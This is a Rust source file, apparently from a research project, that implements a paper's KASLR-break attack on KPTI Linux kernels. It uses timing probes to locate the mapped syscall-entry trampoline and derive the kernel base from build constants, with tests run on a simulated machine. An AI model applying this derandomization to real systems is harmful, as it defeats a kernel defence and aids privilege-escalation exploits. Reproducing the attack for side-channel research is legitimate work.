//! KASLR break on KPTI-enabled kernels (§IV-D).
//!
//! With KPTI the kernel image is absent from the user page table, but
//! the KPTI *trampoline* (the syscall entry pages, `entry_SYSCALL_64`)
//! must stay mapped. Its offset from the kernel base is a build
//! constant (`0xc00000` on the paper's Ubuntu kernel, `0xe00000` on the
//! EC2 AWS kernel), so finding the only mapped pages in the kernel
//! region derandomizes the base.

use avx_mmu::VirtAddr;
use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};

use crate::adaptive::AdaptiveSampler;
use crate::calibrate::Threshold;
use crate::decision::{ConfirmConfig, Confirmer};
use crate::primitives::{PageTableAttack, TileScratch};
use crate::prober::Prober;
use crate::recal::RecalConfig;

use super::kaslr::PER_SLOT_OVERHEAD_CYCLES;

/// How the scan arrived at its base — campaign rows use this to
/// distinguish a *confirmed* trampoline from a first-mapped-slot guess
/// made on ambiguous evidence.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum KptiConfidence {
    /// No slot classified mapped; there is no base.
    NoCandidate,
    /// Exactly one mapped slot — unambiguous even without confirmation.
    Unique,
    /// Multiple mapped slots; the first was taken on faith (the legacy
    /// first-wins rule, or a confirmation pass that rejected every
    /// candidate and fell back to it).
    GuessedFirst,
    /// The decision layer re-tested the selected slot and confirmed it.
    Confirmed,
}

/// Result of the trampoline hunt.
#[derive(Clone, Debug)]
pub struct KptiScan {
    /// All slots that classified as mapped (should be the trampoline
    /// slot only on a KPTI kernel).
    pub mapped_slots: Vec<u64>,
    /// The trampoline address, when found.
    pub trampoline: Option<VirtAddr>,
    /// The derived kernel base (`trampoline − offset`).
    pub base: Option<VirtAddr>,
    /// How the base was selected from the sweep evidence.
    pub confidence: KptiConfidence,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included).
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed.
    pub refits: u32,
}

impl KptiScan {
    /// `true` when the base rests on ambiguous, unconfirmed evidence.
    #[must_use]
    pub fn ambiguous(&self) -> bool {
        self.confidence == KptiConfidence::GuessedFirst
    }
}

/// The KPTI-trampoline attack.
#[derive(Clone, Copy, Debug)]
pub struct KptiAttack {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
    /// Known trampoline offset for the target kernel build.
    pub trampoline_offset: u64,
}

impl super::PageTableScan for KptiAttack {
    fn knobs(&mut self) -> (&mut PageTableAttack, &mut Option<ConfirmConfig>) {
        (&mut self.attack, &mut self.confirm)
    }
}

impl KptiAttack {
    /// Builds the attack for a given threshold and build constant.
    #[must_use]
    pub fn new(threshold: Threshold, trampoline_offset: u64) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
            trampoline_offset,
        }
    }

    /// Routes the sweep through the adaptive sequential engine.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Overrides the fixed probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Runs the sweep under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]).
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Re-tests candidate slots through the confirmation decision
    /// layer ([`crate::decision`]) instead of trusting the first
    /// mapped classification.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Scans the kernel region and derives the base from the first
    /// mapped slot — or, with [`KptiAttack::with_confirmation`], from
    /// the first slot that survives the confirmation protocol. The
    /// candidates are fed through the batched probe pipeline.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
        self.scan_in(p, &mut TileScratch::default())
    }

    /// [`KptiAttack::scan`] on caller-kept tile buffers, shared by the
    /// sweep and the confirmation re-visits.
    pub(crate) fn scan_in<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        scratch: &mut TileScratch,
    ) -> KptiScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = super::kaslr::KernelBaseFinder::candidate_range();
        let start = range.start;
        let sweep = self.attack.sweep_in(p, &range, scratch);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let mapped_slots: Vec<u64> = sweep
            .mapped
            .iter()
            .enumerate()
            .filter(|(_, &m)| m)
            .map(|(i, _)| i as u64)
            .collect();
        let legacy_confidence = match mapped_slots.len() {
            0 => KptiConfidence::NoCandidate,
            1 => KptiConfidence::Unique,
            _ => KptiConfidence::GuessedFirst,
        };
        let mut confirm_probes = 0u64;
        let (slot, confidence) = match self.confirm {
            None => (mapped_slots.first().copied(), legacy_confidence),
            Some(config) => {
                let confirmer = Confirmer::new(&self.attack, config);
                let found = confirmer.first_confirmed_in(
                    p,
                    mapped_slots
                        .iter()
                        .map(|&slot| (slot, start.wrapping_add(slot * KASLR_ALIGN))),
                    scratch,
                );
                confirm_probes = found.probes;
                match found.slot {
                    Some(slot) => (Some(slot), KptiConfidence::Confirmed),
                    // Every candidate failed its re-test: fall back to
                    // the legacy guess rather than return nothing.
                    None => (mapped_slots.first().copied(), legacy_confidence),
                }
            }
        };
        let trampoline = slot.map(|slot| start.wrapping_add(slot * KASLR_ALIGN));
        let base = trampoline
            .map(|t| VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset)));
        KptiScan {
            mapped_slots,
            trampoline,
            base,
            confidence,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes: sweep.probes + confirm_probes,
            refits: sweep.refits,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem, KPTI_TRAMPOLINE_OFFSET};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn kpti_prober(seed: u64, fixed: Option<u64>) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig {
            kpti: true,
            fixed_slide: fixed,
            ..LinuxConfig::seeded(seed)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn reproduces_the_section_iv_d_setup() {
        // Fixed base 0xffffffff81000000 (slot 8): the trampoline must be
        // found at 0xffffffff81c00000, exactly as the paper reports.
        let (mut p, truth) = kpti_prober(1, Some(8));
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
        let scan = attack.scan(&mut p);
        assert_eq!(
            scan.trampoline.map(|t| t.as_u64()),
            Some(0xffff_ffff_81c0_0000)
        );
        assert_eq!(scan.base, Some(truth.kernel_base));
    }

    #[test]
    fn randomized_kpti_kernels_are_derandomized() {
        for seed in [2, 3, 4] {
            let (mut p, truth) = kpti_prober(seed, None);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
            let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
            let scan = attack.scan(&mut p);
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn only_the_trampoline_slot_is_mapped() {
        let (mut p, truth) = kpti_prober(5, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
        let scan = attack.scan(&mut p);
        assert_eq!(scan.mapped_slots.len(), 1, "KPTI leaves one visible slot");
        assert_eq!(scan.trampoline, truth.trampoline);
    }

    #[test]
    fn adaptive_kpti_scan_matches_fixed_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        let (mut p, truth) = kpti_prober(7, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let fixed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        let adaptive = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
            .scan(&mut p);
        assert_eq!(adaptive.base, Some(truth.kernel_base));
        assert_eq!(adaptive.mapped_slots, fixed.mapped_slots);
        assert!(adaptive.probes > 0 && fixed.probes > 0);
    }

    #[test]
    fn unambiguous_scans_report_unique_confidence() {
        let (mut p, truth) = kpti_prober(5, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let scan = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        assert_eq!(scan.mapped_slots.len(), 1);
        assert_eq!(scan.confidence, KptiConfidence::Unique);
        assert!(!scan.ambiguous());
    }

    #[test]
    fn confirmation_keeps_the_quiet_answer_and_upgrades_confidence() {
        let (mut p, truth) = kpti_prober(9, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let plain = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        let confirmed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
            .with_confirmation(crate::decision::ConfirmConfig::default())
            .scan(&mut p);
        assert_eq!(confirmed.base, plain.base);
        assert_eq!(confirmed.base, Some(truth.kernel_base));
        assert_eq!(confirmed.confidence, KptiConfidence::Confirmed);
        assert!(
            confirmed.probes > plain.probes,
            "the re-test spends extra probes: {} vs {}",
            confirmed.probes,
            plain.probes
        );
    }

    #[test]
    fn wrong_offset_constant_yields_wrong_base() {
        // Sanity: the attack depends on knowing the build constant.
        let (mut p, truth) = kpti_prober(6, Some(8));
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, 0xe0_0000); // wrong for this build
        let scan = attack.scan(&mut p);
        assert_ne!(scan.base, Some(truth.kernel_base));
    }
}
